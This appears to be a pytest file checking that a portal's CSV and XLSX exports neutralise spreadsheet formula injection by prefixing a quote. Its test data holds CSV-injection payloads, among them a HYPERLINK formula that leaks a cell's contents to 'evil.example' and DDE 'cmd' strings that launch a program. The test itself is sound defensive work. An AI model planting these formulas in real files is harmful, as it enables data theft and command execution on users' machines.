"""A formula planted in what people type comes out of EVERY registered CSV or
XLSX export as text: each of the prefixes a spreadsheet reads as a formula
(= + - @ tab CR), and no cell of the file may start one (numbers aside)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from portal.exports import FORMULA_PREFIXES, REGISTRY, export_render, export_request
from tests.portal.test_exports import BUILDERS

PLANTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SHEETS = sorted((name, fmt) for name, exp in REGISTRY.items() for fmt in exp.formats if fmt in ("csv", "xlsx"))


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def _cells(content, fmt):
    if fmt == "csv":
        assert content.startswith("\ufeff".encode())
        return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for c in row]
    sheet = load_workbook(io.BytesIO(content)).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    return [c.value for row in sheet.iter_rows() for c in row]


def test_every_registered_spreadsheet_export_is_planted():
    assert len(SHEETS) >= 6
    assert {name for name, _fmt in SHEETS} <= set(BUILDERS)


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "fmt"), SHEETS)
@pytest.mark.parametrize("planted", PLANTED, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_planted_formula_is_neutralised_in_every_cell(name, fmt, planted):
    obj, user, variant = BUILDERS[name](planted)
    row = export_request(exporter=name, obj=obj, fmt=fmt, by=user, variant=variant, language="en")
    assert export_render(export_id=row.pk) is True
    row.refresh_from_db()
    with row.file.open("rb") as fh:
        cells = _cells(fh.read(), fmt)
    expected = "'" + planted
    if fmt == "xlsx":  # XML reads a carriage return back as a line feed
        expected, planted = expected.replace("\r", "\n"), planted.replace("\r", "\n")
    assert expected in cells
    assert planted not in cells
    live = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_PREFIXES) and not _is_number(c)]
    assert live == []
